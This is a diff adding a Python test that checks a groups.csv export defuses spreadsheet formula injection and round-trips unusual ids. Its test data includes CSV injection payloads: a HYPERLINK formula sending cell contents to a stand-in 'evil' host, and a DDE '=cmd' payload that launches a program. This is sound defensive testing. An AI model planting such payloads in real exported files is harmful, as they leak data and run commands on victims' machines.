@@ -201,3 +201,22 @@ def _main(args: list[str]) -> tuple[int, str, str]:
 
     result = invoke_main(args)
     return result.exit_code, result.stdout, result.stderr
+
+
+# A report's groups.csv (issue #42 item 7): ids and groups from data are never a spreadsheet formula, and every one
+# reads back as it was, a line break or U+2028 inside included.
+FORMULA_IDS = ['=HYPERLINK("http://evil/?"&A1)/s1', "+1+1/s2", "-2/s3", "@SUM(A1:A9)/s4", "\tx/s5", "\rx/s6",
+               "'quoted/s7", "''twice/s8", "a\r\nb/s9", "line\u2028sep/s10", "plain/s11", "=/s12"]
+
+
+def test_groups_csv_holds_no_formula_and_reads_back_every_id(tmp_path):
+    from rescue.data.groups import groups_csv
+
+    of = {sample_id: ("=cmd|' /C calc'!A0" if n % 3 == 0 else f"@g{n % 2}") for n, sample_id in enumerate(FORMULA_IDS)}
+    grouping = SessionGroups(of, "given", dict.fromkeys(FORMULA_IDS, "couple"))
+    text = groups_csv(grouping)
+    cells = [cell for row in list(csv.reader(text.splitlines(keepends=True)))[1:] for cell in row]
+    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    path = tmp_path / "groups.csv"
+    path.write_text(text, encoding="utf-8", newline="")
+    assert read_groups(path).of == of
